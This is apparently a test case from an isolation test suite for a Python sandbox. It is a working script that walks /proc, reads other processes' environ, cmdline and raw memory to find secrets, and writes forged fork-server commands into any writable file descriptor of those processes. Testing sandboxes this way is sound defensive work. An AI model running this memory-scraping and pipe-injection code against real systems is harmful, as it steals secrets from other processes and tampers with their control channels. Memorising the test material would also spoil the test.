# id: zygote-read-proc-entries
# category: leaks
# description: open /proc/<pid>/mem, environ, cmdline and every /proc/<pid>/fd/* of each pid it can find or guess (its pid 1, its parent, 1 to 4096), read what they give, and write forged fork-server lines into whatever opens for writing
# source: proc(5): /proc/<pid>/fd/N reopens another process's pipes (the host opens the runs' own pipes this way); mem and environ need ptrace access
# detect: zygote+secret (a planted secret, or the host's cgroup path that only the zygote's fds name, appears in the output)
# exclusive: yes
import os
import re

pattern = re.compile(rb'[a-z]+-secret-[0-9a-f]{8,}|pybox-[0-9]+/[a-z]+-[0-9]+')
forged = b'S 1 1048576 1048576 0\nP 1 1 3 4 5 6 7 8\nX 1 0\nC 1\n'
me = os.getpid()
found, opened = set(), []


def scan(data):
    """The pattern around each literal hit (a regex over megabytes of memory is too slow)."""
    for literal in (b'-secret-', b'pybox-'):
        at = data.find(literal)
        while at >= 0:
            found.update(pattern.findall(data[max(0, at - 16):at + 80]))
            at = data.find(literal, at + 1)


pids = {int(p) for p in os.listdir('/proc') if p.isdigit()} | set(range(1, 4097)) | {os.getppid()}
for pid in sorted(pids - {me}):
    base = '/proc/%d/' % pid
    for name in ('environ', 'cmdline'):
        try:
            with open(base + name, 'rb') as f:
                scan(f.read(1 << 16))
                opened.append(base + name)
        except OSError:
            pass
    try:
        with open(base + 'maps') as maps, open(base + 'mem', 'rb', 0) as mem:
            opened.append(base + 'mem')
            for line in maps:
                addr, perms = line.split()[:2]
                if perms.startswith('r'):
                    start, end = (int(x, 16) for x in addr.split('-'))
                    try:
                        mem.seek(start)
                        scan(mem.read(min(end - start, 16 << 20)))
                    except (OSError, ValueError, OverflowError):
                        pass
    except OSError:
        pass
    try:
        fds = os.listdir(base + 'fd')
    except OSError:
        continue
    for n in fds:
        path = base + 'fd/' + n
        try:
            scan(os.readlink(path).encode())
        except OSError:
            pass
        for flags in (os.O_RDONLY, os.O_WRONLY):
            try:
                fd = os.open(path, flags | os.O_NONBLOCK)
            except OSError:
                continue
            opened.append('%s (%s)' % (path, 'r' if flags == os.O_RDONLY else 'w'))
            try:
                if flags == os.O_RDONLY:
                    scan(os.read(fd, 1 << 16))
                else:
                    os.write(fd, forged)
            except OSError:
                pass
            os.close(fd)
print('opened', len(opened), 'entries of other processes')
for item in sorted(found):
    print(item.decode())
